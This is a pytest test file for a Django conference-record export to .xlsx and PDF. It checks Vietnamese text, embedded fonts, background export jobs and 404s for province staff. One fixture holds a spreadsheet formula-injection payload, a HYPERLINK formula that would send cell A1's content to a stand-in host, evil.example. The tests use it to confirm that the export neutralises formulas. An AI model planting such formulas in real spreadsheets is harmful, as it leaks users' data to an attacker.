"""The conference record: .xlsx (every cell text, formulas neutralised), PDF (the
shipped fonts, Vietnamese text read back with pypdf), and the PDF's job."""

import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from questions.enums import ExportStatus
from questions.models import RecordExport
from questions.record.pdf import record_pdf
from questions.record.rows import record_of
from questions.services import guidance
from questions.services.record import start_record_export
from questions.services.record_export import run_record_export
from questions.tasks import export_record
from tests.documents import pdfcheck

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


@pytest.fixture
def filled(draft, hanoi_point, hue_point, hanoi_staff, hue_staff, ask, answer, now):
    """Two questions (one a formula), one answered, and a comment."""
    first = ask(
        hanoi_point, hanoi_staff, text="Đề nghị hướng dẫn chấm điểm tiêu chí 1.3."
    )
    answer(first, text="+Tiêu chí 1.3 chấm theo kế hoạch năm, tối đa 1,5 điểm.")
    ask(hue_point, hue_staff, text=FORMULA)
    guidance.add_comment(
        section=draft.sections.get(order=2),
        point=hue_point,
        text="@Đề nghị bổ sung tài liệu kiểm chứng.",
        by=hue_staff,
        now=now,
    )
    return first


def _sheets(content: bytes):
    return load_workbook(io.BytesIO(content))


def test_the_xlsx_holds_every_question_comment_and_answer_as_text(
    organiser_client, open_conference, filled
):
    response = organiser_client.get(
        reverse("questions:record_xlsx", args=[open_conference.slug])
    )

    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )
    assert response["Content-Disposition"].startswith(
        f'attachment; filename="cau-hoi-gop-y-{open_conference.slug}-'
    )
    book = _sheets(response.content)
    assert book.sheetnames == ["Câu hỏi", "Góp ý dự thảo"]
    questions, comments = book["Câu hỏi"], book["Góp ý dự thảo"]
    header = [c.value for c in questions[1]]
    assert header[:6] == [
        "Số",
        "Tỉnh, thành phố",
        "Loại",
        "Chủ đề",
        "Mục chương trình",
        "Câu hỏi, kiến nghị",
    ]
    first, second = ([c.value for c in row] for row in questions.iter_rows(min_row=2))
    assert first[:4] == ["1", "Tỉnh Hà Nội", "Câu hỏi", "Hướng dẫn chấm điểm"]
    assert first[5] == "Đề nghị hướng dẫn chấm điểm tiêu chí 1.3."
    assert first[8] == "Đã trả lời bằng văn bản"
    # Formula-like text reads as typed, kept text by the quote-prefix style.
    assert first[10] == "+Tiêu chí 1.3 chấm theo kế hoạch năm, tối đa 1,5 điểm."
    assert second[5] == FORMULA
    row_2, row_3 = questions[2], questions[3]
    assert row_2[10].quotePrefix and row_3[5].quotePrefix
    assert not row_2[5].quotePrefix
    comment = [c.value for c in comments[2]]
    assert comment[2:4] == [
        "Tỉnh Thừa Thiên Huế",
        "@Đề nghị bổ sung tài liệu kiểm chứng.",
    ]
    assert comments[2][3].quotePrefix
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n") and (
                    cell.data_type == "s" or cell.value is None
                ), (sheet.title, cell.coordinate, cell.value)


def test_the_pdf_prints_the_record_in_the_shipped_font(open_conference, filled, now):
    pdf = record_pdf(record_of(conference=open_conference, now=now))

    text = pdfcheck.flat_text(pdf)
    assert "TỔNG HỢP CÂU HỎI, KIẾN NGHỊ, ĐỀ XUẤT" in text
    assert "Đề nghị hướng dẫn chấm điểm tiêu chí 1.3." in text
    assert "Tiêu chí 1.3 chấm theo kế hoạch năm, tối đa 1,5 điểm." in text
    assert "Đã trả lời bằng văn bản" in text
    assert "Tỉnh Thừa Thiên Huế" in text
    assert "@Đề nghị bổ sung tài liệu kiểm chứng." in text
    assert "Tiếp thu, giải trình" in text
    assert pdfcheck.embedded_font_names(pdf) == {
        "Liberation Serif",
        "Liberation Serif Bold",
        "Liberation Serif Italic",
    }
    assert pdfcheck.page_size_mm(pdf) == (297.0, 210.0)


def test_the_pdf_is_made_by_one_job_per_user_and_served_when_done(
    organiser, organiser_client, open_conference, filled, now
):
    job = start_record_export(conference=open_conference, by=organiser, now=now)
    again = start_record_export(conference=open_conference, by=organiser, now=now)
    assert again.pk == job.pk
    progress_url = reverse("questions:record_job", args=[open_conference.slug, job.pk])
    assert b'hx-trigger="load delay:1s"' in organiser_client.get(progress_url).content

    assert export_record(job_id=job.pk) == ExportStatus.DONE

    page = organiser_client.get(progress_url).content.decode()
    file_url = reverse("questions:record_job_file", args=[open_conference.slug, job.pk])
    assert file_url in page
    assert "hx-trigger" not in page
    response = organiser_client.get(file_url)
    pdf = b"".join(response.streaming_content)
    assert "Đề nghị hướng dẫn chấm điểm tiêu chí 1.3." in pdfcheck.flat_text(pdf)
    newer = start_record_export(
        conference=open_conference, by=organiser, now=timezone.now()
    )
    assert newer.pk != job.pk


def test_a_job_delivered_twice_renders_once(organiser, open_conference, filled, now):
    job = start_record_export(conference=open_conference, by=organiser, now=now)
    done = run_record_export(job=job)

    again = run_record_export(job=RecordExport.objects.get(pk=job.pk))

    assert (again.status, again.file.name) == (ExportStatus.DONE, done.file.name)


def test_a_job_that_cannot_store_its_file_is_marked_failed(
    organiser, open_conference, filled, now, settings, tmp_path
):
    blocked = tmp_path / "not-a-folder"
    blocked.write_text("")
    settings.MEDIA_ROOT = blocked
    job = start_record_export(conference=open_conference, by=organiser, now=now)

    with pytest.raises(OSError):
        run_record_export(job=job)

    job.refresh_from_db()
    assert job.status == ExportStatus.FAILED
    assert job.error != ""


def test_the_task_of_a_job_gone_does_nothing():
    assert export_record(job_id=987654) == "gone"


def test_the_record_routes_answer_404_to_province_staff(
    organiser, open_conference, hanoi_client, now
):
    job = start_record_export(conference=open_conference, by=organiser, now=now)
    slug = open_conference.slug

    for url in (
        reverse("questions:record_xlsx", args=[slug]),
        reverse("questions:record_job", args=[slug, job.pk]),
        reverse("questions:record_job_file", args=[slug, job.pk]),
    ):
        assert hanoi_client.get(url).status_code == 404
    assert (
        hanoi_client.post(reverse("questions:record_pdf", args=[slug])).status_code
        == 404
    )
    assert (
        Client().post(reverse("questions:record_pdf", args=[slug])).status_code == 302
    )
    assert RecordExport.objects.count() == 1
